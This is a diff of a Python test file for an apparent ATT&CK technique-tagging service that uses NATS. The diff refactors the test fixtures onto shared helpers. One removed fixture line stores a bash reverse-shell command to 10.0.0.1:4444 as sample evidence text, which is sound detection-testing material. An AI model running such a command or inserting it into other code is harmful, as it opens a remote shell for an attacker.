@@ -24,15 +24,9 @@ import pytest
 from nats.js.client import JetStreamContext
 from typer.testing import CliRunner, Result
 
+from harness.bus_messages import tag_data, tagged_message
 from ttp_core.contract import subjects
-from ttp_core.contract.payloads import (
-    EventTagged,
-    TagData,
-    decode,
-    encode,
-    envelope,
-    worker_source,
-)
+from ttp_core.contract.payloads import EventTagged, TagData, decode
 from ttp_runtime.nats import MSG_ID_HEADER, ensure_streams
 from ttpctl.app import app
 
@@ -50,30 +44,13 @@ Emit = tuple[str, str, str | None]
 
 
 def tag(rule_id: str, technique_id: str, sub_technique_id: str | None) -> TagData:
-    return TagData(
-        uuid=str(uuid.uuid4()),
-        rule_id=rule_id,
-        rule_version=1,
-        tactic="TA0002",
-        technique_id=technique_id,
-        sub_technique_id=sub_technique_id,
-        confidence=0.9,
-        evidence={"command_text": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
-        attack_version="17.1",
-        mitre_url=f"https://attack.mitre.org/techniques/{technique_id}/",
-    )
+    return tag_data(technique_id, sub_technique_id, rule_id=rule_id, attack_version="17.1")
 
 
 def tagged(source_id: str, *emits: Emit, kind: str = "command") -> tuple[str, bytes]:
     """Subject and bytes of the tag message a worker would publish for one event."""
-    data = EventTagged(
-        source_kind=kind,
-        source_id=source_id,
-        revision=7,
-        tags=[tag(*emit) for emit in emits],
-    )
-    message = envelope(data, source=worker_source("test-w1"), subject=source_id)
-    return subjects.tagged(kind), encode(message)
+    tags = [tag(*emit) for emit in emits]
+    return tagged_message(source_id, tags, kind=kind, revision=7, worker="test-w1")
 
 
 async def _publish(js: JetStreamContext, messages: list[tuple[str, bytes]]) -> None:
